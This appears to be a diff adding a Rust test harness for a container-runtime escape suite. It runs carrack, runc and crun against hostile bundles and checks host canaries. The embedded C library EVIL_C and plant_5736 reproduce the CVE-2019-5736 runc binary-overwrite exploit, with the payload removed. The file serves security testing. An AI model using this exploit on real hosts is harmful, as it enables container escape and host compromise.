@@ -1,0 +1,391 @@
+//! The attack suite's harness: a runtime under test (carrack, runc or crun, each run from a
+//! private copy of its binary, so a successful attack damages only the copy), hostile bundles,
+//! and the canaries that judge from outside the container.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::common::{Env, text};
+
+/// What an attack achieved, judged by canaries outside the container.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verdict {
+    /// A canary outside the container changed: the attack reached the host.
+    Escaped(String),
+    /// The runtime refused the bundle or the request before anything ran.
+    Refused(String),
+    /// The attack ran and every canary is unchanged.
+    Contained(String),
+    /// The case cannot be exercised with this runtime or on this host.
+    Skipped(String),
+}
+
+impl Verdict {
+    pub fn word(&self) -> &'static str {
+        match self {
+            Self::Escaped(_) => "ESCAPED",
+            Self::Refused(_) => "refused",
+            Self::Contained(_) => "contained",
+            Self::Skipped(_) => "skipped",
+        }
+    }
+    pub fn detail(&self) -> &str {
+        match self {
+            Self::Escaped(d) | Self::Refused(d) | Self::Contained(d) | Self::Skipped(d) => d,
+        }
+    }
+}
+
+/// A runtime with runc's command line, run from a private copy of its binary.
+pub struct Rt {
+    pub name: &'static str,
+    /// The copy that runs (the 2019-5736 canary).
+    pub bin: PathBuf,
+    /// Its state root.
+    pub root: PathBuf,
+    /// A wrapper that runs the binary (crun needs a mount namespace without the hybrid host's
+    /// cgroup2 mount), or none.
+    wrapper: Option<PathBuf>,
+    dir: PathBuf,
+}
+
+impl Rt {
+    /// `name` (carrack, runc, crun) with its binary copied under `dir`; `None` when the peer is
+    /// not installed.
+    pub fn new(name: &'static str, dir: &Path) -> Option<Self> {
+        let src = match name {
+            "carrack" => PathBuf::from(env!("CARGO_BIN_EXE_carrack")),
+            other => which(other)?,
+        };
+        let home = dir.join(format!("rt-{name}"));
+        std::fs::create_dir_all(&home).expect("runtime dir");
+        let bin = home.join(name);
+        std::fs::copy(&src, &bin).expect("copy of the runtime binary");
+        let wrapper = (name == "crun").then(|| {
+            // crun refuses this machine's hybrid cgroup layout (a cgroup2 mount beside the v1
+            // controllers): run it where that mount is gone, as benches/lifecycle_vs_runc.sh does.
+            let w = home.join("wrap");
+            std::fs::write(
+                &w,
+                "#!/bin/sh\nexec unshare -m --propagation slave sh -c \
+                 'umount /sys/fs/cgroup/unified 2>/dev/null; exec \"$@\"' - \"$@\"\n",
+            )
+            .expect("wrapper");
+            set_mode(&w, 0o755);
+            w
+        });
+        Some(Self {
+            name,
+            root: home.join("state"),
+            bin,
+            wrapper,
+            dir: home,
+        })
+    }
+
+    fn command(&self, args: &[&str]) -> Command {
+        let mut c = match &self.wrapper {
+            Some(w) => {
+                let mut c = Command::new(w);
+                c.arg(&self.bin);
+                c
+            }
+            None => Command::new(&self.bin),
+        };
+        c.arg("--root").arg(&self.root).args(args);
+        c.stdin(Stdio::null());
+        c
+    }
+
+    /// Runs the runtime with `args`; stdio go to files, so a container process left behind
+    /// holds no pipe of the test's open.
+    pub fn cmd(&self, args: &[&str]) -> Output {
+        let out = self.dir.join("out");
+        let err = self.dir.join("err");
+        let status = self
+            .command(args)
+            .stdout(std::fs::File::create(&out).expect("out"))
+            .stderr(std::fs::File::create(&err).expect("err"))
+            .status()
+            .expect("run the runtime");
+        Output {
+            status,
+            stdout: std::fs::read(&out).unwrap_or_default(),
+            stderr: std::fs::read(&err).unwrap_or_default(),
+        }
+    }
+
+    /// `create` then `start`, as docker and containerd drive a runtime; the error if either fails.
+    pub fn create_start(&self, id: &str, bundle: &Path) -> Result<(), String> {
+        let o = self.cmd(&["create", "--bundle", path_str(bundle), id]);
+        if !o.status.success() {
+            return Err(format!("create: {}", text(&o)));
+        }
+        let o = self.cmd(&["start", id]);
+        if !o.status.success() {
+            self.cmd(&["delete", "-f", id]);
+            return Err(format!("start: {}", text(&o)));
+        }
+        Ok(())
+    }
+
+    /// The pid of a container's init, from `state`.
+    pub fn pid(&self, id: &str) -> Option<i32> {
+        let o = self.cmd(&["state", id]);
+        let v: Value = serde_json::from_slice(&o.stdout).ok()?;
+        v["pid"].as_i64().and_then(|p| i32::try_from(p).ok())
+    }
+
+    pub fn delete(&self, id: &str) {
+        self.cmd(&["delete", "-f", id]);
+    }
+
+    /// The sha256 of the binary copy.
+    pub fn binary_hash(&self) -> String {
+        sha256_file(&self.bin)
+    }
+}
+
+pub fn path_str(p: &Path) -> &str {
+    p.to_str().expect("utf-8 path")
+}
+
+pub fn which(name: &str) -> Option<PathBuf> {
+    std::env::var_os("PATH")?
+        .to_str()?
+        .split(':')
+        .chain(["/usr/sbin", "/sbin"])
+        .map(|d| Path::new(d).join(name))
+        .find(|p| p.is_file())
+}
+
+pub fn set_mode(p: &Path, mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).expect("chmod");
+}
+
+pub fn sha256_file(p: &Path) -> String {
+    use sha2::Digest as _;
+    let bytes = std::fs::read(p).expect("read for hashing");
+    hex::encode(sha2::Sha256::digest(&bytes))
+}
+
+/// Polls `check` every 20 ms until it returns something or `limit` passes.
+pub fn wait_for<T>(limit: Duration, mut check: impl FnMut() -> Option<T>) -> Option<T> {
+    let end = Instant::now() + limit;
+    loop {
+        if let Some(v) = check() {
+            return Some(v);
+        }
+        if Instant::now() > end {
+            return None;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// A host sysctl, read now, and put back as it was when dropped (an attack that reaches the
+/// host must not leave it changed).
+pub struct HostSysctl {
+    path: PathBuf,
+    pub before: String,
+}
+
+impl HostSysctl {
+    pub fn new(key: &str) -> Self {
+        let path = Path::new("/proc/sys").join(key.replace('.', "/"));
+        let before = std::fs::read_to_string(&path).expect("host sysctl");
+        Self { path, before }
+    }
+    pub fn now(&self) -> String {
+        std::fs::read_to_string(&self.path).expect("host sysctl")
+    }
+    /// `Some(description)` if the value changed.
+    pub fn changed(&self) -> Option<String> {
+        let now = self.now();
+        (now != self.before).then(|| {
+            format!(
+                "host {} went from {} to {}",
+                self.path.display(),
+                self.before.trim(),
+                now.trim()
+            )
+        })
+    }
+}
+
+impl Drop for HostSysctl {
+    fn drop(&mut self) {
+        if self.now() != self.before {
+            let _ = std::fs::write(&self.path, &self.before);
+        }
+    }
+}
+
+/// The host's mount table, as a set of mount points, to see that a container's mounts never
+/// reach it.
+pub fn host_mount_points() -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_to_string("/proc/self/mountinfo")
+        .expect("mountinfo")
+        .lines()
+        .filter_map(|l| l.split(' ').nth(4).map(str::to_owned))
+        .collect();
+    v.sort();
+    v
+}
+
+/// Copies the shared libraries `bin` needs (and its ELF interpreter) into `rootfs` at their
+/// host paths, so the runtime's own binary can start inside the container as a hostile image
+/// would make it (CVE-2019-5736).
+pub fn copy_libraries(bin: &Path, rootfs: &Path) {
+    let o = Command::new("ldd").arg(bin).output().expect("ldd");
+    for line in String::from_utf8_lossy(&o.stdout).lines() {
+        let path = line
+            .split_whitespace()
+            .find(|w| w.starts_with('/'))
+            .map(PathBuf::from);
+        let Some(path) = path else { continue };
+        let dest = rootfs.join(path.strip_prefix("/").expect("absolute"));
+        std::fs::create_dir_all(dest.parent().expect("parent")).expect("lib dir");
+        if !dest.exists() {
+            std::fs::copy(&path, &dest).expect("copy library");
+        }
+    }
+}
+
+/// A shared library whose constructor, in whatever process loads it, grabs an `O_PATH` handle
+/// on `/proc/self/exe` and leaves a detached shell behind that keeps trying to append to it
+/// through `/proc/self/fd/9` (the 2019 exploit's second stage, minus the payload). It logs what
+/// it grabbed and whether the write went through to `/evil.log` in the container.
+pub fn evil_library() -> PathBuf {
+    static LIB: OnceLock<PathBuf> = OnceLock::new();
+    LIB.get_or_init(|| {
+        let dir = std::env::temp_dir().join(format!("carrack-attacks-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).expect("dir");
+        let src = dir.join("evil.c");
+        std::fs::write(&src, EVIL_C).expect("evil.c");
+        let lib = dir.join("evil.so");
+        let o = Command::new("gcc")
+            .args(["-shared", "-fPIC", "-O2", "-o"])
+            .arg(&lib)
+            .arg(&src)
+            .output()
+            .expect("gcc (apt-get install gcc)");
+        assert!(o.status.success(), "building evil.so: {}", text(&o));
+        lib
+    })
+    .clone()
+}
+
+const EVIL_C: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+
+__attribute__((constructor)) static void grab(void) {
+    if (getenv("EVIL_STAGE2")) return;
+    char self[4096];
+    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
+    if (n < 0) n = 0;
+    self[n] = 0;
+    int log = open("/evil.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
+    int fd = open("/proc/self/exe", O_PATH);
+    if (fd < 0 || dup2(fd, 9) < 0) {
+        dprintf(log, "no handle on %s\n", self);
+        _exit(0);
+    }
+    dprintf(log, "grabbed %s\n", self);
+    close(log);
+    if (fork() == 0) {
+        setsid();
+        setenv("EVIL_STAGE2", "1", 1);
+        execl("/bin/sh", "sh", "-c",
+              "i=0; while [ $i -lt 150 ]; do "
+              "if (echo PWNED >> /proc/self/fd/9) 2>/dev/null; then echo wrote >> /evil.log; exit 0; fi; "
+              "i=$((i+1)); sleep 0.02; done; "
+              "(echo PWNED >> /proc/self/fd/9) 2>> /evil.log; echo gave-up >> /evil.log",
+              (char *)0);
+        _exit(1);
+    }
+    /* The runtime's process goes away (exec) or stays as something harmless (init). */
+    if (getenv("EVIL_BECOME")) execl("/bin/sh", "sh", "-c", getenv("EVIL_BECOME"), (char *)0);
+    _exit(0);
+}
+"#;
+
+/// Plants the CVE-2019-5736 image in `bundle`: `/evil-script` whose interpreter is
+/// `/proc/self/exe`, `/evil.so`, and the libraries `bin` needs.
+pub fn plant_5736(bundle: &Path, bin: &Path) {
+    let rootfs = bundle.join("rootfs");
+    std::fs::write(rootfs.join("evil-script"), "#!/proc/self/exe\n").expect("script");
+    set_mode(&rootfs.join("evil-script"), 0o755);
+    std::fs::copy(evil_library(), rootfs.join("evil.so")).expect("evil.so");
+    copy_libraries(bin, &rootfs);
+}
+
+/// Waits for the 2019-5736 second stage to finish, then judges by the binary's hash.
+pub fn judge_5736(rt: &Rt, bundle: &Path, before: &str) -> Verdict {
+    let log_path = bundle.join("rootfs/evil.log");
+    let log = wait_for(Duration::from_secs(8), || {
+        let s = std::fs::read_to_string(&log_path).ok()?;
+        (s.contains("wrote") || s.contains("gave-up") || s.contains("no handle")).then_some(s)
+    })
+    .or_else(|| std::fs::read_to_string(&log_path).ok())
+    .unwrap_or_default();
+    let log = log.trim().replace('\n', "; ");
+    if rt.binary_hash() != before {
+        return Verdict::Escaped(format!("the runtime binary on the host was modified ({log})"));
+    }
+    if log.is_empty() {
+        Verdict::Contained("the runtime's binary never ran in the container".into())
+    } else {
+        Verdict::Contained(format!("binary unchanged ({log})"))
+    }
+}
+
+/// A bundle from [`Env::bundle`] for runtime `rt`, named after it.
+pub fn bundle(
+    env: &Env,
+    rt: &Rt,
+    name: &str,
+    args: &[&str],
+    tweak: impl FnOnce(&mut Value),
+) -> PathBuf {
+    env.bundle(&format!("{}-{name}", rt.name), args, |c| {
+        // The attacks write their logs in the rootfs.
+        c["root"]["readonly"] = json!(false);
+        tweak(c);
+    })
+}
+
+/// The config's mounts, to push to.
+pub fn mounts(c: &mut Value) -> &mut Vec<Value> {
+    c["mounts"].as_array_mut().expect("mounts")
+}
+
+/// Removes the config's `/dev` tmpfs, so /dev is the image's own directory.
+pub fn without_dev_tmpfs(c: &mut Value) {
+    mounts(c).retain(|m| m["destination"] != json!("/dev"));
+}
+
+/// The capabilities in this process's bounding set, by name: "every capability" for a
+/// privileged container on this host (this VM's root lacks CAP_SYS_RESOURCE, for one).
+pub fn host_capabilities() -> Vec<&'static str> {
+    let status = std::fs::read_to_string("/proc/self/status").expect("status");
+    let bnd = status
+        .lines()
+        .find_map(|l| l.strip_prefix("CapBnd:"))
+        .and_then(|h| u64::from_str_radix(h.trim(), 16).ok())
+        .expect("CapBnd");
+    carrack_linux::known_capabilities()
+        .iter()
+        .copied()
+        .filter(|n| carrack_linux::capability_number(n).is_some_and(|b| bnd & (1 << b) != 0))
+        .collect()
+}
